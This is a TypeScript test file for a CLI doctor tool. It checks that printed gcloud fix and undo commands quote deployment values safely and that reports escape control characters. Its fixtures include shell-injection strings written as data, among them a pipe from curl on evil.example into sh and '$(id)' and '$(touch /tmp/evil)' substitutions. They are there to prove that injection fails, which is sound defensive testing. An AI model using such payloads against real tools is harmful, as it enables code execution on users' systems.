// The commands that `keydesk doctor` and the preflight print, for people who paste them into a shell. What a deployment contains decides
// the words of a command, and never how many commands there are.

import { execFileSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { OWN_KINDS, PREFLIGHT_KINDS } from '../../../../cli/doctor/checks.ts';
import { reportLines } from '../../../../cli/doctor/report.ts';
import { CHECK_KINDS, TOKEN_KINDS } from '../../../../cli/preflight/checks.ts';
import { bind } from '../../../fixtures/broken-deployments.ts';
import { at } from '../../../fixtures/deployed-addresses.ts';
import { deployedWorld } from '../../../fixtures/deployed-world.ts';
import { runDoctorOn } from '../../../fixtures/doctor-run.ts';
import { DATA, KEYDESK } from '../../../fixtures/preflight-world.ts';

/** The arguments of each call of gcloud in `command`, and nothing else runs. */
function callsIn(command: string): string[][] {
  const script = `set -eu; PATH=; gcloud() { printf '%s\\0' "$@"; printf '\\0'; }; ${command}`;
  const printed = execFileSync('/bin/bash', ['-c', script], { encoding: 'utf8' });
  return printed
    .split('\0\0')
    .slice(0, -1)
    .map((call) => call.split('\0'));
}

const TITLE = "x'; curl https://evil.example/x | sh; echo '";
const EXPRESSION = 'request.time < timestamp("2027-01-01T00:00:00Z") || \'$(id)\' == "`id`"\n&& true';
const MEMBER = "principal://iam.googleapis.com/projects/1/locations/global/workloadIdentityPools/p/subject/a'b;c";

describe('a printed command', () => {
  it.each([
    ['of one binding', at.project(DATA), 'roles/owner'],
    ['of a binding whose condition was lost', at.project(KEYDESK), 'roles/datastore.user'],
  ])('%s has the condition and the member as words', async (_, address, role) => {
    const world = deployedWorld();
    bind(address, role, MEMBER, { title: TITLE, expression: EXPRESSION })(world);
    const { findings } = await runDoctorOn(world);
    expect(findings.length).toBeGreaterThan(0);
    const [finding] = findings;
    const flags = [`--member=${MEMBER}`, `--role=${role}`, `--condition=^~^title=${TITLE}~expression=${EXPRESSION}`];
    for (const [command, verb] of [
      [finding?.fix, 'remove-iam-policy-binding'],
      [finding?.undo, 'add-iam-policy-binding'],
    ] as const)
      expect(callsIn(command ?? '')).toEqual([['projects', verb, expect.any(String), ...flags]]);
  });

  it('has the settings of a service and of a sink as words', async () => {
    const world = deployedWorld();
    const evil = '$(touch /tmp/evil)';
    const service = structuredClone(world.resources[at.service('admin')]) as {
      spec: { template: { spec: { serviceAccountName: string } } };
    };
    service.spec.template.spec.serviceAccountName = evil;
    world.resources[at.service('admin')] = service;
    const { findings } = await runDoctorOn(world);
    const [call] = callsIn(findings[0]?.undo ?? '');
    expect(call?.at(-1)).toBe(`--service-account=${evil}`);
  });

  it('brings its own quotes: no text of a finding has a placeholder in quotes', () => {
    const kinds = [...OWN_KINDS, ...PREFLIGHT_KINDS, ...CHECK_KINDS, ...TOKEN_KINDS];
    const commands = kinds
      .flatMap(({ findings }) => Object.values(findings))
      .flatMap(({ fix, undo = '' }) => [fix, undo]);
    const inQuotes = commands.filter((text) =>
      [...text.matchAll(/\{[a-z_]+\}/g)].some(({ index }) => {
        const before = text.slice(0, index).replace(/(?<=\w)'(?=\w)/g, '');
        return ['"', "'"].some((quote) => before.split(quote).length % 2 === 0);
      }),
    );
    expect(inQuotes).toEqual([]);
    expect(commands.length).toBeGreaterThan(100);
  });
});

describe('a report', () => {
  it('shows what is invisible, and has one line for each fact', async () => {
    const world = deployedWorld();
    const title = 'ok\n```\n\u001b[2J\u202e';
    bind(at.project(DATA), 'roles/owner', 'user:eve@acme.example', { title, expression: title })(world);
    const lines = reportLines(await runDoctorOn(world));
    expect(lines.join('')).not.toMatch(/[\p{Cc}\p{Cf}]/u);
    expect(lines.filter((line) => line.includes('<U+202E>'))).toHaveLength(1);
    expect(lines.filter((line) => /^ {0,3}`/.test(line))).toEqual([]);
  });
});
